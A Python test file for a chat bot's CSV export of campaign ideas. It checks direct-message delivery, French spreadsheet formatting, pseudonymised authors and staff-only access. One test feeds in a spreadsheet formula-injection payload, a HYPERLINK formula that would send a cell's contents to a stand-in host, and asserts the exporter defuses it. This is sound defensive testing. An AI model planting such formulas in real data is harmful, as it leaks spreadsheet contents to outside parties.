"""Exports asked for in the chat arrive as files in a direct message, written by the one CSV
writer: they open as columns in a French spreadsheet and a formula typed by a member stays text."""

from __future__ import annotations

from handlers.csvfile import BOM, read_csv
from tests.chat import Chat, texts
from tests.fakes.recording_port import Sent
from tests.ideas_world import open_campaign, propose

STAFF = "ada"


def file_in_dm(sent: list[Sent], user: str = STAFF) -> Sent:
    [found] = [s for s in sent if s.to_user == user and s.message and s.message.files]
    return found


def test_staff_get_the_ideas_csv_in_a_direct_message(chat: Chat) -> None:
    open_campaign(chat)
    propose(chat, "bea", "Notes de frais", '=HYPERLINK("http://x.example/?"&A1;"Cliquez")')
    propose(chat, "dan", "Covoiturage", "Une plateforme; avec un point-virgule")
    sent = chat.command(STAFF, "idees export")
    assert "Je vous envoie « idees-2026-12-07.csv » en message privé" in texts(sent)
    dm = file_in_dm(sent)
    assert "2 idée(s)" in dm.text
    assert dm.message is not None
    [attached] = dm.message.files
    assert attached.mime_type == "text/csv"
    text = attached.content.decode("utf-8")
    assert text.startswith(BOM)
    rows = read_csv(attached.content)
    assert rows[0][:4] == ["numero", "espace", "campagne", "titre"]
    proposals = {row[3]: row[5] for row in rows[1:]}
    assert proposals["Notes de frais"].startswith("'=HYPERLINK(")
    assert proposals["Covoiturage"] == "Une plateforme; avec un point-virgule"
    assert all(len(row) == len(rows[0]) for row in rows)


def test_pseudonymised_ideas_export_hides_authors(chat: Chat) -> None:
    open_campaign(chat)
    propose(chat, "bea", "Notes de frais")
    dm = file_in_dm(chat.command(STAFF, "ideas export --pseudonymise"))
    assert dm.message is not None
    rows = read_csv(dm.message.files[0].content)
    assert rows[1][8] == "participant-1" and "bea" not in dm.message.files[0].content.decode()


def test_a_member_cannot_export_ideas(chat: Chat) -> None:
    open_campaign(chat)
    propose(chat, "bea", "Notes de frais")
    sent = chat.command("bea", "idees export")
    assert "réservée au rôle équipe du programme" in texts(sent)
    assert not any(s.message and s.message.files for s in sent)


def test_an_export_asked_in_a_direct_message_is_answered_there(chat: Chat) -> None:
    open_campaign(chat)
    propose(chat, "bea", "Notes de frais")
    [reply] = chat.dm(STAFF, "/relais idees export")
    assert reply.channel == f"D-{STAFF}" and reply.message and reply.message.files
